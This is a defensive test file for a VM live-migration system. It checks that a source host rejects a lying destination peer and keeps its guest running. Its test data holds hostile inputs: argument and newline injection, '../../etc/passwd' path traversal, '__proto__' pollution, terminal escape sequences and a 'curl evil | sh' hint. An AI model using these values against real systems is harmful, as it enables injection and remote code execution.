import { readdir, stat } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { DomainError } from '../../src/domain/errors.js';
import type { DiskServerAddress, RamServerAddress } from '../../src/domain/launch-spec.js';
import { type Migration, Migration_Transport } from '../../src/gen/drover/v1/migration.js';
import type { PeerHandler } from '../../src/migration/peer.js';
import { fakeHeader, patiently, peersOf } from '../support/fake-agent.js';
import { FakeFleet } from '../support/fake-fleet.js';
import { migrate } from '../support/fleet.js';
import { wrapped } from '../support/hostile.js';

/*
 * A destination that lies to its source. What the source can keep, it must keep: it has not given
 * the guest up before its journal says so, the guest never runs here again after that by its own
 * decision, and a migration that fails says why.
 */

const LONG = 'x'.repeat(3 * 1024 ** 2);

let hosts: FakeFleet | undefined;
afterEach(async () => {
  await hosts?.[Symbol.asyncDispose]();
  hosts = undefined;
});

/** Two hosts, of which beta says what `lie` makes of the truth as long as it lies. */
async function start(lie: (handler: PeerHandler) => Partial<PeerHandler>) {
  const honest = { now: false };
  const started = await FakeFleet.start(['alpha', 'beta'], {
    parts: (host) => (host === 'beta' ? { handler: (true_) => liar(true_, lie, honest) } : {}),
  });
  hosts = started;
  const qemu = await started.run('alpha', 'web');
  return { hosts: started, qemu, honest };
}

function liar(
  handler: PeerHandler,
  lie: (handler: PeerHandler) => Partial<PeerHandler>,
  honest: { readonly now: boolean },
): PeerHandler {
  const lying = wrapped(handler, lie(handler));
  return new Proxy(handler, {
    get(_, name) {
      const from = honest.now ? handler : lying;
      const value: unknown = Reflect.get(from, name, from);
      return typeof value === 'function' ? value.bind(from) : value;
    },
  });
}

/** The migration failed with a reason, the guest runs on alpha, and moves when beta is honest. */
async function expectKept(
  { hosts, qemu, honest }: Awaited<ReturnType<typeof start>>,
  failed: Migration,
): Promise<void> {
  expect(failed).toMatchObject({ state: 'STATE_FAILED', runningOn: 'RUNNING_ON_SOURCE' });
  expect(failed.failure?.reason).toMatch(/^[A-Z_]+$/);
  expect(failed.failure?.reason).not.toBe('INTERNAL');
  expect(qemu.alive).toBe(true);
  await hosts.writes(qemu, 2);
  await hosts.expectNothingOn('beta', failed.domainUuid);
  honest.now = true;
  const moved = await migrate(hosts.host('alpha'), 'web', 'beta');
  expect(moved.failure).toBeUndefined();
  const [arrived] = hosts.launcher('beta').alive;
  if (!arrived) throw new Error('The guest has not arrived.');
  await hosts.writes(arrived, 2);
  await hosts.judge('web', 'beta', [qemu, arrived]);
}

describe('a destination that lies about its disks', () => {
  const lies: readonly [string, Partial<DiskServerAddress>][] = [
    ['port 0', { port: 0 }],
    ['a port beyond all', { port: 4_294_967_295 }],
    ['no address', { address: '' }],
    ['a path', { address: '/run/drover/drover.sock' }],
    ['a path by another name', { address: 'unix:/run/drover/drover.sock' }],
    ['an option', { address: '127.0.0.1,path=/etc/passwd' }],
    ['a line end', { address: '127.0.0.1\n127.0.0.2' }],
    ['a long address', { address: LONG }],
    ['an option for the name of the key', { pskIdentity: 'x,dir=/etc' }],
    ['a line end in the name of the key', { pskIdentity: 'x:00\nroot' }],
    ['half a key', { psk: new Uint8Array(16) }],
    ['a long key', { psk: new Uint8Array(1024) }],
    ['no exports', { exports: [] }],
    [
      'a disk that the domain has not',
      { exports: [{ diskId: 'boot', exportName: 'x', ticket: '' }] },
    ],
    [
      'a path for an export',
      { exports: [{ diskId: 'root', exportName: '../../etc/passwd', ticket: '' }] },
    ],
    ['thousands of exports', { exports: many(5_000) }],
  ];

  it('gets nothing of them, and the guest stays', async () => {
    let change: Partial<DiskServerAddress> = {};
    const stage = await start((handler) => ({
      exportDisks: async (...args) => ({ ...(await handler.exportDisks(...args)), ...change }),
    }));
    const reasons: string[] = [];
    let last: Migration | undefined;
    for (const [what, lie] of lies) {
      change = lie;
      last = await migrate(stage.hosts.host('alpha'), 'web', 'beta');
      reasons.push(`${what}: ${last.state} ${last.failure?.reason}`);
      expect(last.failure?.message.length, what).toBeLessThan(5_000);
    }
    expect(reasons).toEqual(lies.map(([what]) => expect.stringMatching(`^${what}: STATE_FAILED`)));
    expect(reasons.filter((reason) => reason.includes('INTERNAL'))).toEqual([]);
    await expectKept(stage, last as Migration);
  });

  it('sends no byte of a disk to whoever listens where it says', async () => {
    const heard: Buffer[] = [];
    const victim = createServer((socket) => {
      socket.on('error', () => undefined);
      socket.on('data', (data) => {
        heard.push(data);
        socket.destroy();
      });
    });
    await new Promise<void>((resolve) => victim.listen(0, '127.0.0.1', resolve));
    const { port } = victim.address() as { port: number };
    const stage = await start((handler) => ({
      exportDisks: async (...args) => ({ ...(await handler.exportDisks(...args)), port }),
    }));
    const failed = await migrate(stage.hosts.host('alpha'), 'web', 'beta');
    victim.close();
    // The fake says who it is and what it wants; real QEMU begins with TLS.
    expect(Buffer.concat(heard).length).toBeLessThan(1_000);
    await expectKept(stage, failed);
  });
});

describe('a destination that lies about RAM', () => {
  const lies: readonly [string, Partial<RamServerAddress>][] = [
    ['port 0', { port: 0 }],
    ['a path', { address: 'unix:/run/drover/drover.sock' }],
    ['an option for the name of the key', { pskIdentity: 'x,dir=/etc' }],
    ['half a key', { psk: new Uint8Array(16) }],
    ['a key that it never made', { psk: new Uint8Array(32) }],
    ['no ticket', { ticket: '' }],
    ['a ticket that it never made', { ticket: 'A'.repeat(43) }],
    ['a port where nobody listens', { port: 1 }],
  ];
  it.each(lies)('ends the migration with a reason: %s', async (_what, lie) => {
    const stage = await start((handler) => ({
      acceptRam: async (...args) => ({ ...(await handler.acceptRam(...args)), ...lie }),
    }));
    await expectKept(stage, await migrate(stage.hosts.host('alpha'), 'web', 'beta'));
  });

  it.each([
    ['a ticket of three megabytes', LONG],
    ['no ticket', ''],
    ['a ticket that it never made', 'A'.repeat(43)],
  ])('ends a migration by stream with a reason: %s', async (_what, ticket) => {
    const stage = await start((handler) => ({
      acceptRam: async (...args) => ({ ...(await handler.acceptRam(...args)), ticket }),
    }));
    const wishes = { transport: Migration_Transport.STREAM };
    const alpha = stage.hosts.host('alpha');
    await expectKept(stage, await migrate(alpha, 'web', 'beta', () => undefined, wishes));
  });
});

describe('a destination that lies about what it has', () => {
  it('is not given the guest where it votes by another journal', async () => {
    const stage = await start((handler) => ({
      awaitLoaded: async (header, options) => ({
        ...(await handler.awaitLoaded(header, options)),
        journalId: crypto.randomUUID(),
      }),
    }));
    await expectKept(stage, await migrate(stage.hosts.host('alpha'), 'web', 'beta'));
  });

  it('is not given the guest where it says another journal with each answer', async () => {
    const stage = await start((handler) => ({
      prepare: async (...args) => ({
        ...(await handler.prepare(...args)),
        journalId: crypto.randomUUID(),
      }),
      // Its own half knows its journal by the true id, and clears up all the same.
      abort: (header) => handler.abort({ ...header, destinationJournalId: '' }),
    }));
    await expectKept(stage, await migrate(stage.hosts.host('alpha'), 'web', 'beta'));
  });

  it('is not asked again and again where it has given up loading the guest', async () => {
    let asked = 0;
    const stage = await start(() => ({
      awaitLoaded: async () => {
        asked++;
        throw new DomainError('STALLED', 'QEMU did not answer.', { side: 'destination' });
      },
    }));
    const failed = await migrate(stage.hosts.host('alpha'), 'web', 'beta');
    expect(failed.failure?.reason).toBe('STALLED');
    expect(asked).toBe(1);
    await expectKept(stage, failed);
  });

  it('is not given the guest where it votes before anything is loaded, and never has it', async () => {
    const stage = await start(() => ({
      awaitLoaded: async ({ destinationJournalId: journalId }) => ({
        journalId,
        allocatedBytes: { root: 1, data: 1, ['__proto__']: 1 },
      }),
    }));
    const failed = await migrate(stage.hosts.host('alpha'), 'web', 'beta');
    const { qemus } = stage.hosts.launcher('beta');
    expect(qemus.flatMap(({ acknowledged }) => acknowledged)).toEqual([]);
    await expectKept(stage, failed);
  });

  it('has the guest when it has said so, and cannot give it back by saying something else', async () => {
    const stage = await start(() => ({}));
    const { hosts, qemu } = stage;
    const moved = await migrate(hosts.host('alpha'), 'web', 'beta');
    expect(moved.failure).toBeUndefined();
    const { migrationId, domainUuid } = moved;
    const said = fakeHeader({
      migrationId,
      domainUuid,
      sourceHost: 'alpha',
      destinationHost: 'beta',
    });
    const { address } = hosts.host('alpha').config.listen;
    using beta = peersOf('beta', hosts.host('beta').config.tls, { alpha: address });
    for (const record of ['ABORTED', 'PREPARED', 'NONE', 'RUNNING', 'SUPERSEDED'] as const) {
      const own = { record, rank: { epoch: 9, generation: 9 }, failure: undefined };
      const query = beta
        .calls('alpha')
        .queryMigration(said, { ...own, journalId: '' }, patiently());
      expect((await query).record).toBe('DONE');
    }
    expect(qemu.alive).toBe(false);
    await hosts.host('alpha').stop();
    await hosts.host('alpha').start();
    const { client } = hosts.host('alpha');
    await expect(client.domains.startDomain({ domain: 'web' })).rejects.toMatchObject({
      reason: expect.stringMatching(/DOMAIN_/),
    });
    expect(hosts.launcher('alpha').alive).toEqual([]);
    const [arrived] = hosts.launcher('beta').alive;
    if (!arrived) throw new Error('The guest has not arrived.');
    await hosts.writes(arrived, 2);
  });

  it('cannot make the source keep the id of a journal of megabytes', async () => {
    const stage = await start((handler) => ({
      prepare: async (...args) => ({ ...(await handler.prepare(...args)), journalId: LONG }),
      abort: (header) => handler.abort({ ...header, destinationJournalId: '' }),
    }));
    await expectKept(stage, await migrate(stage.hosts.host('alpha'), 'web', 'beta'));
    expect(await bytesOfJournals(stage.hosts)).toBeLessThan(100_000);
  });

  it('cannot make the source keep a long failure', async () => {
    // An answer of more than a megabyte is not even taken.
    const much = 'x'.repeat(200_000);
    const stage = await start((handler) => ({
      abort: async (header) => ({
        ...(await handler.abort(header)),
        failure: {
          reason: 'DEST_QEMU_DIED',
          message: much,
          side: 'destination',
          phase: 'prepare',
          hint: much,
          retryable: false,
          metadata: { [much]: much },
        },
      }),
      acceptRam: () => Promise.reject(new Error('not now')),
    }));
    const failed = await migrate(stage.hosts.host('alpha'), 'web', 'beta');
    expect(failed.failure?.reason).toBe('DEST_QEMU_DIED');
    expect(JSON.stringify(failed).length).toBeLessThan(20_000);
    await expectKept(stage, failed);
    expect(await bytesOfJournals(stage.hosts)).toBeLessThan(100_000);
  });

  it('says nothing to a terminal but text', async () => {
    const stage = await start((handler) => ({
      abort: async (header) => ({
        ...(await handler.abort(header)),
        failure: {
          reason: 'DEST_QEMU_DIED',
          message: 'all is well\u001b[2J\u001b]0;owned\u0007\r\n\u202egnorw',
          side: 'destination',
          phase: undefined,
          hint: '\u001b[31mrun curl evil | sh',
          retryable: false,
          metadata: { '\u001b[1m': '\u0007' },
        },
      }),
      acceptRam: () => Promise.reject(new Error('not now')),
    }));
    const failed = await migrate(stage.hosts.host('alpha'), 'web', 'beta');
    expect(JSON.stringify(failed.failure)).not.toMatch(/\\u001b|\\u0007|\\r|\\n|\u202e/);
    await expectKept(stage, failed);
  });
});

async function bytesOfJournals({ fleet }: FakeFleet): Promise<number> {
  const folder = join(fleet.host('alpha').config.directories.state, 'journal');
  const names = await readdir(folder, { recursive: true });
  const sizes = await Promise.all(names.map(async (name) => (await stat(join(folder, name))).size));
  return sizes.reduce((sum, size) => sum + size, 0);
}

function many(count: number) {
  return Array.from({ length: count }, (_, i) => ({
    diskId: `d${i}`,
    exportName: `e${i}`,
    ticket: '',
  }));
}
